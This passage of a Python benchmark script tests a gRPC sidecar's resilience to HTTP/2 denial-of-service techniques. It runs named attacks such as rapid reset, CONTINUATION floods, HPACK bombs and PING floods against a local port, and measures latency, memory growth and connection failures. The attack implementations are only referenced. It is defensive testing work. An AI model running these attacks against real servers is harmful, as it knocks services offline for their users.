    """None when a fresh connection is served `round_trips` round trips; else why not."""
    try:
        stream = ExtProcStream(port)
        try:
            for count in range(round_trips):
                stream.round_trip(b"new connection %d" % count)
        finally:
            stream.close()
    except FAILURES as error:
        return f"{type(error).__name__}: {error}"
    return None


# --- a trial: the well-behaved client before, during and after one attack -------------------


class PeakRss:
    """A process's peak resident memory from now on: writing 5 to clear_refs resets VmHWM."""

    def __init__(self, pid: int | str = "self") -> None:
        self._proc = Path("/proc") / str(pid)
        (self._proc / "clear_refs").write_text("5")
        self.start = self._status_bytes("VmRSS")

    def growth(self) -> int:
        return max(0, self._status_bytes("VmHWM") - self.start)

    def _status_bytes(self, key: str) -> int:
        for line in (self._proc / "status").read_text().splitlines():
            if line.startswith(key + ":"):
                return int(line.split()[1]) * 1024
        raise KeyError(key)


@dataclass(frozen=True)
class AttackWindow:
    """How long the server is kept under an attack, and the baseline before it: the attack
    runs again (on new connections: each run makes its own) until at least `seconds` passed and
    the well-behaved client made `round_trips` round trips meanwhile, or until `limit` seconds
    passed; a run is never cut short. The baseline is at least `round_trips` round trips too."""

    seconds: float
    round_trips: int
    limit: float

    def over(self, elapsed: float, round_trips: int) -> bool:
        return elapsed >= self.limit or (elapsed >= self.seconds
                                         and round_trips >= self.round_trips)


ONCE = AttackWindow(seconds=0.0, round_trips=0, limit=0.0)  # one run, however short
QUICK_WINDOW = AttackWindow(seconds=1.0, round_trips=300, limit=2.0)
FULL_WINDOW = AttackWindow(seconds=3.0, round_trips=1000, limit=6.0)


@dataclass(frozen=True)
class Trial(Generic[R_co]):
    outcome: R_co  # what the attack's first run returned
    runs: int  # how many times the attack ran back to back in its window
    seconds: float  # the window: from the first run's start to the last one's end
    before: list[float]  # well-behaved round trips (seconds) before the attack
    during: list[float]
    after: list[float]
    failures: list[str]  # well-behaved round trips that failed, at any time
    peak_rss_growth: int  # bytes: the server's peak resident memory over its start
    counted: dict[str, float]  # how much each given counter moved during the attack
    new_connection: str | None  # None: a new connection after the attack was served

    @property
    def p99_ratio(self) -> float | None:
        """The well-behaved client's p99 during the attack ÷ before it."""
        if not self.before or not self.during:
            return None
        return percentile(sorted(self.during), 0.99) / percentile(sorted(self.before), 0.99)


def trial(port: int, attack: Callable[[int], R], pid: int | str = "self",
          counters: Mapping[str, Callable[[], float]] | None = None, baseline: int = 30,
          settle: int = 5, window: AttackWindow = ONCE) -> Trial[R]:
    """`attack(port)`, run as often as `window` says, while a well-behaved client does round
    trips on its own connection: `baseline` of them first (or as many as the window asks),
    `settle` more after; then a new connection's round trips. `pid` is the server's process
    (memory); `counters` are read before and after the attack."""
    counters = counters or {}
    with WellBehavedClient(port) as client:
        client.wait_for_round_trips(max(baseline, window.round_trips), timeout=STARTUP_SECONDS)
        start_counts = {name: count() for name, count in counters.items()}
        peak = PeakRss(pid)
        served = client.served
        begun = time.monotonic()
        outcome = attack(port)
        runs = 1
        while not window.over(time.monotonic() - begun, client.served - served):
            attack(port)
            runs += 1
        ended = time.monotonic()
        growth = peak.growth()
        counted = {name: count() - start_counts[name] for name, count in counters.items()}
        client.wait_for_round_trips(settle, timeout=5.0)
    return Trial(outcome, runs, ended - begun, client.latencies(until=begun),
                 client.latencies(begun, ended), client.latencies(since=ended),
                 [why for _, why in client.failures], growth, counted,
                 new_connection_refused(port))


# --- the report -----------------------------------------------------------------------------

Outcome = AttackResult | list[AttackResult]
ATTACKS: dict[str, Callable[[int], Outcome]] = {
    "rapid reset": rapid_reset,
    "never-ended streams": never_ended_streams,
    "CONTINUATION flood, 16 B": continuation_flood,
    "CONTINUATION flood, 1 MiB": lambda port: continuation_flood(port, 1 << 20, frames=48),
    "HPACK bomb": hpack_bomb,
    "long HPACK integer": long_hpack_integer,
    "SETTINGS flood": settings_flood,
    "SETTINGS flood, never reading": lambda port: settings_flood(port, 1 << 22, read=False),
    "PING flood": ping_flood,
    "PING flood, never reading": lambda port: ping_flood(port, 1 << 22, read=False),
    "WINDOW_UPDATE overflow": lambda port: window_update_overflow(port, on_stream=False),
    "an incomplete message parked": lambda port: parked_messages(port, 1, 4 << 20),
    "incomplete messages past the budget": lambda port: parked_messages(port, 10, 4 << 20),
    "HEADERS on stream 0": lambda port: bad_stream_id(port, "zero"),
    "MAX_FRAME_SIZE 2^32-1": lambda port: extreme_setting(
        port, SettingCodes.MAX_FRAME_SIZE, (1 << 32) - 1),
    "4 GiB message, trickled": huge_message_trickle,
    "slow preface": slow_preface,
}


def summary(outcome: Outcome) -> str:
    if isinstance(outcome, list):
        closed = [r.server.closed_at for r in outcome if r.server.closed_at is not None]
        latest = f", the last after {max(closed):.1f}s" if closed else ""
        return f"{len(closed)}/{len(outcome)} closed{latest}"
    server = outcome.server
    said = [f"GOAWAY {server.goaway.error}" if server.goaway else "",
            f"{len(server.resets)} RST_STREAM" if server.resets else "",
            ", ".join(f"grpc-status {status}" for status in sorted(
                {status for status in map(server.grpc_status, outcome.streams)
                 if status is not None})),
            f"closed after {server.closed_at:.2f}s" if server.closed_at is not None else "",
            "stopped reading" if outcome.blocked else "",
            "closed under a send" if outcome.send_failed and server.closed_at is None else ""]
    return ", ".join(part for part in said if part) or "nothing"


def trial_summary(run: Trial[Outcome]) -> str:
    """What the server did to the attack's first run, and how often the attack ran."""
    again = f"; run {run.runs}× in {run.seconds:.1f}s, each on new connections" \
        if run.runs > 1 else ""
    return summary(run.outcome) + again


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True, help="the sidecar's gRPC port")
    parser.add_argument("--pid", default="self", help="the sidecar's process, for its memory")
    parser.add_argument("--full", action="store_true",
                        help="the full bench's attack windows rather than the quick one's")
    args = parser.parse_args()
    window = FULL_WINDOW if args.full else QUICK_WINDOW
    print(f"{'attack':36} {'RSS+ MiB':>8} {'n before':>8} {'during':>6} "
          f"{'p99 µs before':>13} {'during':>8} {'ratio':>6} {'failures':>8}  server")
    for name, attack in ATTACKS.items():
        run = trial(args.port, attack, pid=args.pid, window=window)
        before = percentile(sorted(run.before), 0.99) * 1e6 if run.before else 0.0
        during = percentile(sorted(run.during), 0.99) * 1e6 if run.during else 0.0
        ratio = f"{run.p99_ratio:.2f}" if run.p99_ratio is not None else "-"
        failures = len(run.failures) + (run.new_connection is not None)
        print(f"{name:36} {run.peak_rss_growth / 2**20:8.1f} {len(run.before):8} "
              f"{len(run.during):6} {before:13.0f} {during:8.0f} {ratio:>6} {failures:8}  "
              f"{trial_summary(run)}")


if __name__ == "__main__":
    main()
